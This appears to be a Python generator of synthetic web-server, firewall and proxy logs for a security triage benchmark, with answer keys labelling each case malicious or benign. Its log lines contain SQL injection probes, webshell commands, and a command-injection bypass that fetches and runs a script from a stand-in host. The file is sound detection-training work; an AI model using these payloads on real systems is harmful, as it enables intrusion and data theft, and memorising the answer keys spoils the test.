# ruff: noqa: E501
"""Web cases: Apache and nginx access logs, IIS W3C, a web application firewall's CEF lines, a proxy."""

from datetime import datetime

from casebook import Case, Log, iso

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
)


def combined(
    when: datetime,
    address: str,
    request: str,
    status: int,
    size: int,
    referer: str = "-",
    agent: str = BROWSERS[0],
    user: str = "-",
) -> str:
    """A line in the combined format."""
    return f'{address} - {user} [{when.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "{request} HTTP/1.1" {status} {size} "{referer}" "{agent}"'


def web_background(case: Case, log: Log, pages: tuple[str, ...], site: str, events: int, hours: float) -> None:
    """Visitors with their assets and the odd missing icon."""
    visitors = [(case.public(), case.dice.choice(BROWSERS)) for _ in range(25)]
    for _ in range(events):
        when = case.sometime(hours=hours)
        address, agent = case.dice.choice(visitors)
        path = case.dice.choice(
            (*pages, *pages, "/static/app.css", "/static/app.js", "/static/logo.svg", "/favicon.ico")
        )
        status = 404 if path == "/favicon.ico" else case.dice.choice((200, 200, 200, 304))
        log.add(
            when,
            combined(when, address, f"GET {path}", status, case.dice.randrange(300, 42000), f"https://{site}/", agent),
        )


def injection_and_shell() -> Case:
    """SQL injection with a tool, then a file upload that becomes a shell."""
    case = Case("m12_apache_injection_webshell", "2025-03-19 13:00:00")
    log = case.log("access.log")
    web_background(
        case,
        log,
        ("/", "/catalogue.php?id=4", "/catalogue.php?id=9", "/about.php", "/forum/index.php"),
        "boats.example",
        420,
        3,
    )
    attacker, second = "203.0.113.155", "198.51.100.9"
    for position, probe in enumerate(
        (
            "7'",
            "7%20AND%201=1",
            "7%20AND%201=2",
            "7%20ORDER%20BY%205--",
            "7%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-",
            "7%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x71,version()),NULL--%20-",
            "7%20AND%20SLEEP(5)",
            "7%20UNION%20ALL%20SELECT%20NULL,CONCAT(login,0x3a,pass),NULL%20FROM%20staff--%20-",
        )
        * 5
    ):
        when = case.after(minutes=50, seconds=2 * position)
        log.add(
            when,
            combined(
                when,
                attacker,
                f"GET /catalogue.php?id={probe}",
                500 if probe.endswith("'") else 200,
                5120 + 17 * position,
                agent="sqlmap/1.8.3#stable (https://sqlmap.org)",
            ),
            "injection",
        )
    steps = (
        (70, attacker, "POST /staff/login.php", 302, 0, "login"),
        (71, attacker, "GET /staff/index.php", 200, 8810, "login"),
        (73, attacker, "POST /staff/upload.php", 200, 61, "upload"),
        (74, attacker, "GET /uploads/img_7731.php", 200, 18, "shell"),
        (75, attacker, "POST /uploads/img_7731.php?c=whoami", 200, 9, "shell"),
        (76, attacker, "POST /uploads/img_7731.php?c=cat%20/etc/passwd", 200, 1822, "shell"),
        (95, second, "POST /uploads/img_7731.php?c=tar%20cz%20/var/www/data", 200, 9811200, "second"),
        (99, second, "POST /uploads/img_7731.php?c=crontab%20-l", 200, 0, "second"),
    )
    for minutes, address, request, status, size, step in steps:
        when = case.after(minutes=minutes)
        log.add(
            when,
            combined(
                when,
                address,
                request,
                status,
                size,
                agent="Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101 Firefox/60.0",
            ),
            step,
        )
    case.alert = {
        "alert": "Database error pages above normal",
        "service": "boats.example",
        "first_seen": case.after(minutes=50).strftime("%d/%b/%Y:%H:%M"),
        "clients": [attacker],
    }
    return case.judge(
        "malicious",
        "high critical",
        "A tool injects SQL into the catalogue and reads staff log-ins; the same address logs in, uploads a PHP file and runs commands through it; a second address downloads data with the same file.",
        steps={
            "injection": "SQL in a parameter, by a known tool",
            "shell": "an uploaded PHP file runs commands",
            "second": "a second address uses the same file to take data",
        },
        optional={"login": "log-in to the staff pages", "upload": "a file is uploaded"},
        techniques="T1190 T1505.003",
        more_techniques="T1595.002 T1059.004 T1059 T1078 T1005 T1041 T1213 T1033 T1087.001 T1560.001 T1105 T1505 T1595 T1552 T1048 T1213.006",
        iocs=(attacker, second, "img_7731.php"),
        more_iocs=("/uploads/img_7731.php", "sqlmap/1.8.3#stable (https://sqlmap.org)"),
        not_iocs=("boats.example", "/catalogue.php"),
    )


def owned_scanner() -> Case:
    """The company's vulnerability scanner, weekly, with the change calendar beside the access log."""
    case = Case("b11_nginx_owned_vulnerability_scanner", "2025-06-09 00:00:00")
    log = case.log("access.log")
    calendar = case.log("changes.csv", "change,window_start,window_end,system,requester,summary")
    web_background(case, log, ("/", "/prices", "/order/new", "/help"), "barley.example", 240, 7 * 24 + 4)
    paths = (
        "/.git/HEAD",
        "/admin/",
        "/cgi-bin/status",
        "/phpmyadmin/index.php",
        "/etc/passwd",
        "/../../../../etc/passwd",
        "/wp-login.php",
        "/solr/admin/info/system",
        "/actuator/env",
        "/?id=1%27%20OR%20%271%27=%271",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/server-status",
        "/.env",
        "/console/login/LoginForm.jsp",
        "/struts2-showcase/",
        "/owa/auth/logon.aspx",
    )
    for week in range(2):
        for position, path in enumerate(paths * 8):
            when = case.after(hours=7 * 24 * week + 2, seconds=1.5 * position)
            log.add(
                when,
                combined(
                    when,
                    "10.21.0.44",
                    f"GET {path}",
                    404 if position % 9 else 403,
                    162,
                    agent="Mozilla/5.0 (compatible; Nessus; scanner.sec.barley.example)",
                ),
                "alerted" if week else "habit",
            )
        start = case.after(hours=7 * 24 * week + 2)
        calendar.add(
            start,
            f"CHG-0{4102 + 7 * week},{iso(start)[:16]},{iso(start)[:11]}04:00,barley.example web,security team,authorised weekly vulnerability scan from 10.21.0.44",
            "ticket",
        )
    for number in range(12):
        when = case.sometime(hours=7 * 24)
        calendar.add(
            when,
            f"CHG-0{4080 + number},{iso(when)[:16]},{iso(when)[:16]},{case.dice.choice(('mail', 'printers', 'orders database'))},operations,routine maintenance",
        )
    case.alert = {
        "rule": {"id": 31151, "description": "Multiple web attack signatures from one source"},
        "severity": "critical",
        "agent": {"name": "web-edge-1"},
        "data": {"srcip": "10.21.0.44"},
        "timestamp": case.after(hours=170).strftime("%Y-%m-%dT%H:%M:%S.000+0000"),
    }
    return case.judge(
        "benign",
        "informational low",
        "The security team's scanner probes the site in its weekly window, announced in the change calendar with its address.",
        steps={
            "alerted": "the alerted requests, by a scanner that says who it is",
            "ticket": "the change calendar announces the scan and its address",
        },
        optional={"habit": "the same scan a week before"},
        not_iocs=("10.21.0.44", "scanner.sec.barley.example"),
    )


W3C = (
    "#Software: Microsoft Internet Information Services 10.0",
    "#Version: 1.0",
    "#Date: {date}",
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
)


def w3c(
    when: datetime,
    method: str,
    stem: str,
    address: str,
    status: int,
    *,
    query: str = "-",
    user: str = "-",
    agent: str = BROWSERS[0],
    taken: int = 31,
) -> str:
    """An IIS line."""
    return f"{when:%Y-%m-%d %H:%M:%S} 10.14.0.8 {method} {stem} {query} 443 {user} {address} {agent.replace(' ', '+')} - {status} 0 {0 if status < 400 else 64} {taken}"


def credential_stuffing() -> Case:
    """A list of names and passwords is tried on a portal from a few addresses; some fit."""
    case = Case("m13_iis_w3c_credential_stuffing", "2025-12-11 18:00:00")
    log = case.log("u_ex251211.log", *(line.format(date="2025-12-11 18:00:00") for line in W3C))
    for _ in range(330):
        when = case.sometime(hours=4)
        member = case.dice.randrange(1000, 9999)
        log.add(
            when,
            w3c(
                when,
                "GET",
                case.dice.choice(("/", "/portal/home", "/portal/messages", "/static/site.js", "/portal/profile")),
                case.public(),
                case.dice.choice((200, 200, 304)),
                user=f"m{member}",
                agent=case.dice.choice(BROWSERS),
            ),
        )
    for _ in range(40):
        when = case.sometime(hours=4)
        log.add(
            when,
            w3c(
                when,
                "POST",
                "/api/session",
                case.public(),
                401 if case.dice.random() < 0.15 else 200,
                agent=case.dice.choice(BROWSERS),
            ),
        )
    attackers, agent = [f"203.0.113.{last}" for last in (20, 21, 22, 23)], "okhttp/3.12.1"
    hits = {61: "m4471", 118: "m2208", 171: "m7190"}
    for number in range(190):
        when = case.after(hours=2, seconds=3 * number)
        address = attackers[number % 4]
        log.add(
            when,
            w3c(
                when,
                "POST",
                "/api/session",
                address,
                200 if number in hits else 401,
                query=f"u=m{case.dice.randrange(1000, 9999)}" if number not in hits else f"u={hits[number]}",
                agent=agent,
            ),
            "success" if number in hits else "stuffing",
        )
        if number in hits:
            for position, stem in enumerate(("/api/profile", "/api/payment-methods", "/api/profile/export")):
                later = case.after(hours=2, seconds=3 * number + 5 + 4 * position)
                log.add(
                    later,
                    w3c(later, "GET", stem, "203.0.113.99", 200, user=hits[number], agent=agent, taken=410),
                    "harvest",
                )
    case.alert = {
        "Rule": "Log-in failures above threshold",
        "Application": "member portal",
        "Window": {"from": iso(case.after(hours=2)), "minutes": 10},
        "TopSource": attackers[0],
    }
    return case.judge(
        "malicious",
        "high medium critical",
        "Four addresses of one network try one password each for some 190 members; three succeed, and a fifth address reads these members' profiles and means of payment.",
        steps={
            "stuffing": "many different members, failures, the same program, four addresses",
            "success": "three log-ins succeed among them",
            "harvest": "another address reads the three members' data",
        },
        techniques="T1110.004",
        more_techniques="T1110 T1110.003 T1078 T1213 T1530 T1090 T1589.001 T1087 T1119",
        iocs=(*attackers, "203.0.113.99"),
        more_iocs=(agent, *hits.values()),
        not_iocs=("10.14.0.8",),
    )


def renamed_endpoint() -> Case:
    """After a release an app keeps asking for an address that no longer exists."""
    case = Case("b12_iis_w3c_renamed_endpoint", "2025-04-15 05:00:00")
    log = case.log("u_ex250415.log", *(line.format(date="2025-04-15 05:00:00") for line in W3C))
    agent = "TideTimetable/4.2.0 (Android 14)"
    phones = [case.public() for _ in range(40)]
    for _ in range(160):
        when = case.sometime(hours=2.98)
        log.add(
            when,
            w3c(
                when,
                "GET",
                case.dice.choice(("/api/v1/departures", "/api/v1/stops", "/api/v1/notices")),
                case.dice.choice(phones),
                200,
                agent=agent,
            ),
            "before" if case.dice.random() < 0.3 else "~before",
        )
    for _ in range(330):
        when = case.after(hours=3) + (case.sometime(hours=2) - case.start)
        old = case.dice.random() < 0.6
        stem = case.dice.choice(
            ("/api/v1/departures", "/api/v1/stops", "/api/v1/notices")
            if old
            else ("/api/v2/departures", "/api/v2/stops")
        )
        log.add(
            when,
            w3c(
                when,
                "GET",
                stem,
                case.dice.choice(phones),
                404 if old else 200,
                agent=agent if old else agent.replace("4.2.0", "4.3.0"),
            ),
            "alerted" if old else "after",
        )
    when = case.after(hours=2.99)
    log.add(
        when,
        w3c(
            when,
            "POST",
            "/deploy/hooks/release",
            "10.14.0.30",
            200,
            query="version=4.3.0&removed=/api/v1",
            user="deploy-bot",
            agent="release-runner/2.1",
        ),
        "release",
    )
    case.alert = {
        "name": "Enumeration: thousands of 404 answers",
        "level": "High",
        "at": {"utc": iso(case.after(hours=3, minutes=4))},
        "sources": phones[:3],
        "paths": ["/api/v1/departures", "/api/v1/stops"],
    }
    return case.judge(
        "benign",
        "informational low",
        "A release at eight removes the first version of the interface; phones with the older app keep asking for the three known addresses and get 404 until they update.",
        steps={
            "alerted": "404 for the same three addresses, by the app",
            "before": "the same app asked for the same addresses with success before",
        },
        optional={"release": "the release says that it removed them", "after": "the newer app uses the new addresses"},
        not_iocs=(*phones[:3], agent),
    )


def cef(when: datetime, rule: str, name: str, severity: int, **fields: str) -> str:
    """A CEF line behind a syslog header."""
    extension = " ".join(f"{key}={value.replace('=', chr(92) + '=')}" for key, value in fields.items())
    return f"<134>{when:%b %d %H:%M:%S} waf-2 CEF:0|Palisade|WebShield|7.4|{rule}|{name}|{severity}|rt={int(when.timestamp() * 1000)} {extension}"


def firewall_bypass() -> Case:
    """Commands injected into a device's page: blocked, blocked, and then not."""
    case = Case("m14_cef_waf_command_injection", "2025-11-03 08:00:00")
    log = case.log("waf.cef")
    for _ in range(260):
        when = case.sometime(hours=4)
        path = case.dice.choice(("/login", "/status", "/report/weekly", "/static/a.css", "/api/readings"))
        log.add(
            when,
            cef(
                when,
                "1000",
                "Request allowed",
                1,
                src=case.public(),
                dst="10.50.1.20",
                dpt="443",
                requestMethod="GET",
                request=path,
                act="allowed",
                cs1=case.dice.choice(BROWSERS),
                cs1Label="userAgent",
                cn1="200",
                cn1Label="status",
            ),
        )
    attacker = "198.51.100.118"
    payloads = (
        ("/cgi-bin/ping.cgi?host=127.0.0.1;id", "blocked", 403, "tries"),
        ("/cgi-bin/ping.cgi?host=127.0.0.1|id", "blocked", 403, "tries"),
        ("/cgi-bin/ping.cgi?host=`id`", "blocked", 403, "tries"),
        ("/cgi-bin/ping.cgi?host=$(id)", "blocked", 403, "tries"),
        ("/cgi-bin/../../etc/shadow", "blocked", 403, "tries"),
        ("/cgi-bin/ping.cgi?host=127.0.0.1%0a/usr/bin/id", "allowed", 200, "bypass"),
        ("/cgi-bin/ping.cgi?host=127.0.0.1%0awget$IFS-O-$IFShttp://203.0.113.211/d.sh|sh", "allowed", 200, "download"),
        ("/cgi-bin/ping.cgi?host=127.0.0.1%0acat$IFS/etc/config/users", "allowed", 200, "read"),
    )
    for position, (path, action, status, step) in enumerate(payloads):
        when = case.after(hours=1, minutes=30 + 2 * position)
        rule, name = ("2007", "OS command injection") if action == "blocked" else ("1000", "Request allowed")
        log.add(
            when,
            cef(
                when,
                rule,
                name,
                8 if action == "blocked" else 1,
                src=attacker,
                dst="10.50.1.20",
                dpt="443",
                requestMethod="GET",
                request=path,
                act=action,
                cs1="python-requests/2.27.1",
                cs1Label="userAgent",
                cn1=str(status),
                cn1Label="status",
            ),
            step,
        )
    case.alert = {
        "cef_name": "OS command injection",
        "cef_severity": "8",
        "src": attacker,
        "dst": "10.50.1.20",
        "act": "blocked",
        "rt": int(case.after(hours=1, minutes=30).timestamp() * 1000),
    }
    return case.judge(
        "malicious",
        "high critical",
        "Several command injections are blocked; with an encoded line break the same address gets through, fetches a script from a second address and reads the user file.",
        steps={
            "tries": "blocked injections",
            "bypass": "the same, encoded, is allowed",
            "download": "a script is fetched and run",
        },
        optional={"read": "the user file is read"},
        techniques="T1190 T1059.004",
        more_techniques="T1105 T1059 T1027 T1552.001 T1595.002 T1005 T1083 T1059.008 T1087.001 T1003.008",
        iocs=(attacker, "203.0.113.211"),
        more_iocs=("http://203.0.113.211/d.sh", "d.sh", "python-requests/2.27.1"),
        not_iocs=("10.50.1.20", "127.0.0.1", "waf-2"),
    )


def squid(
    when: datetime,
    client: str,
    method: str,
    url: str,
    *,
    status: str = "TCP_MISS/200",
    size: int = 2000,
    user: str = "-",
    mime: str = "text/html",
    taken: int = 80,
) -> str:
    """A line of Squid's native format."""
    return f"{when.timestamp():.3f} {taken:6d} {client} {status} {size} {method} {url} {user} HIER_DIRECT/{url.split('/')[2].split(':')[0] if '//' in url else url.split(':')[0]} {mime}"


def proxy_background(case: Case, log: Log, events: int, hours: float) -> None:
    """People reading the web through a proxy."""
    sites = (
        "news.fjell.example",
        "weather.example",
        "docs.vendor.example",
        "intranet.corp.example",
        "maps.example",
        "wiki.example",
    )
    for _ in range(events):
        when, number = case.sometime(hours=hours), case.dice.randrange(10, 60)
        site = case.dice.choice(sites)
        if case.dice.random() < 0.5:
            log.add(
                when,
                squid(
                    when,
                    f"10.90.2.{number}",
                    "CONNECT",
                    f"{site}:443",
                    status="TCP_TUNNEL/200",
                    size=case.dice.randrange(3000, 90000),
                    user=f"u{number}",
                    mime="-",
                ),
            )
        else:
            log.add(
                when,
                squid(
                    when,
                    f"10.90.2.{number}",
                    "GET",
                    f"http://{site}/{case.hex(4)}",
                    size=case.dice.randrange(500, 50000),
                    user=f"u{number}",
                ),
            )


def phishing_to_beacon() -> Case:
    """A look-alike page takes a password, a program follows, and the machine calls home every half minute."""
    case = Case("m15_squid_phishing_beacon", "2025-02-27 08:00:00")
    log = case.log("access.log")
    proxy_background(case, log, 330, 4)
    client, user = "10.90.2.37", "u37"
    acts = (
        (60, "GET", "http://intranet-corp.signin-check.example/login?m=u37", "lure", 9120, "text/html"),
        (61, "POST", "http://intranet-corp.signin-check.example/login", "password", 310, "text/html"),
        (
            62,
            "GET",
            "http://dl.signin-check.example/files/TimesheetViewer.exe",
            "program",
            1843200,
            "application/x-msdownload",
        ),
    )
    for minutes, method, url, step, size, mime in acts:
        when = case.after(minutes=minutes)
        log.add(when, squid(when, client, method, url, size=size, user=user, mime=mime), step)
    for number in range(70):
        when = case.after(minutes=66, seconds=30 * number + case.dice.uniform(-1, 1))
        log.add(
            when,
            squid(
                when,
                client,
                "GET",
                f"http://203.0.113.64/pixel.gif?i={case.hex(16)}",
                size=371,
                user=user,
                mime="image/gif",
                taken=40,
            ),
            "beacon",
        )
    when = case.after(minutes=103)
    log.add(
        when,
        squid(when, client, "POST", "http://203.0.113.64/submit.php?id=5", size=210, user=user, taken=48110),
        "upload",
    )
    case.alert = {
        "event": "program downloaded from a young domain",
        "when": str(int(case.after(minutes=62).timestamp())),
        "client": client,
        "details": {"url": "http://dl.signin-check.example/files/TimesheetViewer.exe", "age_days": 2},
    }
    return case.judge(
        "malicious",
        "high critical medium",
        "u37 opens a look-alike of the intranet's log-in page, posts to it, downloads a program; from then on the machine asks one address every thirty seconds and finally uploads.",
        steps={
            "lure": "a look-alike log-in page",
            "program": "a program from the same domain",
            "beacon": "requests to one address every thirty seconds",
        },
        optional={"password": "the form is sent", "upload": "a long upload to the same address"},
        techniques="T1566.002 T1071.001",
        more_techniques="T1204.002 T1204.001 T1056.003 T1105 T1041 T1566 T1204 T1598.003 T1071 T1583.001 T1132 T1029 T1608.005",
        iocs=("203.0.113.64", "dl.signin-check.example"),
        more_iocs=(
            "intranet-corp.signin-check.example",
            "signin-check.example",
            "TimesheetViewer.exe",
            "http://dl.signin-check.example/files/TimesheetViewer.exe",
            "http://203.0.113.64/submit.php?id=5",
        ),
        not_iocs=("intranet.corp.example", client, user),
    )


def update_round() -> Case:
    """Every machine fetches the same program from the vendor within minutes, and reports every five minutes."""
    case = Case("b13_squid_agent_update", "2025-10-14 02:00:00")
    log = case.log("access.log")
    proxy_background(case, log, 190, 5)
    machines = [f"10.90.2.{number}" for number in range(10, 34)]
    for machine in machines[:3]:
        for turn in range(0, 300, 5):
            when = case.after(minutes=turn, seconds=7)
            log.add(
                when,
                squid(
                    when,
                    machine,
                    "POST",
                    "http://telemetry.lantern-av.example/v2/heartbeat",
                    size=180,
                    mime="application/json",
                ),
                "heartbeat",
            )
    for position, machine in enumerate(machines):
        when = case.after(hours=3, seconds=9 * position)
        status = "TCP_MISS/200" if position == 0 else "TCP_HIT/200"
        log.add(
            when,
            squid(
                when,
                machine,
                "GET",
                "http://updates.lantern-av.example/agent/9.4.1/setup.exe",
                status=status,
                size=44100212,
                mime="application/octet-stream",
                taken=3100,
            ),
            "alerted" if position == 5 else "others",
        )
        when = case.after(hours=3, seconds=9 * position - 2)
        log.add(
            when,
            squid(
                when,
                machine,
                "GET",
                "http://updates.lantern-av.example/agent/manifest.json",
                size=912,
                mime="application/json",
            ),
            "manifest",
        )
    case.alert = {
        "classification": "Malware download and beaconing",
        "severity": 1,
        "ts": int(case.after(hours=3, seconds=45).timestamp() * 1000),
        "host_ip": machines[5],
        "url": "http://updates.lantern-av.example/agent/9.4.1/setup.exe",
    }
    return case.judge(
        "benign",
        "informational low",
        "The protection agent reads its manifest and fetches its new version on all 24 machines within four minutes; its heartbeat every five minutes is older than the download.",
        steps={"alerted": "the alerted download", "others": "23 other machines fetch the same file from the vendor"},
        optional={"manifest": "each reads the vendor's manifest first", "heartbeat": "the heartbeat runs all night"},
        not_iocs=("updates.lantern-av.example", "telemetry.lantern-av.example", machines[5]),
    )


CASES = (
    injection_and_shell,
    owned_scanner,
    credential_stuffing,
    renamed_endpoint,
    firewall_bypass,
    phishing_to_beacon,
    update_round,
)
